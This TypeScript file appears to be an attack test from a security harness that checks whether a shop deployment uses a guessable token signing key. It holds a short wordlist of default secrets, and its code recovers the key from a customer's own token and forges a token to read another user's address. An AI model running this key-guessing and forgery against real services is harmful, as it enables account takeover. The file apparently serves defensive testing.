import type { Attack, AttackProgress } from '../../../runtime/attack/attack.ts';
import { makeToken, readToken } from '../../../runtime/attack/token.ts';

/** Ways to deploy that happen: the variable is forgotten, somebody types a word, somebody copies the manual. */
const deployments = [
  { what: 'Without TOKEN_KEY', environment: {} },
  { what: 'With a word as TOKEN_KEY', environment: { TOKEN_KEY: 'shop2025' } },
  {
    what: 'With the TOKEN_KEY of the manual',
    environment: { TOKEN_KEY: 'replace-me-with-32-random-bytes-or-more' },
  },
];

/** From the source, from the manual, and from a list of words. */
const guesses = [
  'secret',
  'change-me',
  'changeme',
  'replace-me-with-32-random-bytes-or-more',
  'password',
  'shop',
  'shop2025',
];

/** Logs in as Grace, who is a customer as any other, and guesses the key from her token. */
const attack: Attack = async function* (send) {
  let requests = 0;
  const progress = (step: string, stolen = ''): AttackProgress => ({
    requests,
    stolen,
    length: stolen.length,
    step,
  });
  const post = (path: string, body: unknown) => {
    requests += 1;
    const headers = { 'content-type': 'application/json' };
    return send({ method: 'POST', path, headers, body: JSON.stringify(body) });
  };

  for (const { what, environment } of deployments) {
    const deployed = await post('/deployments', { environment });
    if (deployed.status !== 201) {
      yield progress(`${what}, the shop does not start`);
      continue;
    }
    const login = await post('/api/login', {
      email: 'grace@hopper.example',
      password: 'nanoseconds of wire',
    });
    const token = /"token":"([^"]+)"/.exec(login.body)?.[1] ?? '';
    if (token === '') continue;
    const { header, claims } = readToken(token);
    for (const guess of guesses) {
      if ((await makeToken(header, claims, guess)) !== token) continue;
      const forged = await makeToken(header, { ...claims, sub: '1' }, guess);
      requests += 1;
      const headers = { authorization: `Bearer ${forged}` };
      const { body } = await send({ method: 'GET', path: '/api/account', headers });
      const address = /"address":"([^"]+)"/.exec(body)?.[1] ?? '';
      const step = `${what}, Grace guessed the key from her own token, ${guess}, and opened Ada’s account`;
      if (address !== '') return { ...progress(step, address), outcome: 'succeeded' };
    }
    yield progress(`${what}, the shop runs, with a key that is none of ${guesses.length} words`);
  }
  return { ...progress('The shop runs with no key that can be guessed'), outcome: 'repelled' };
};

export default attack;
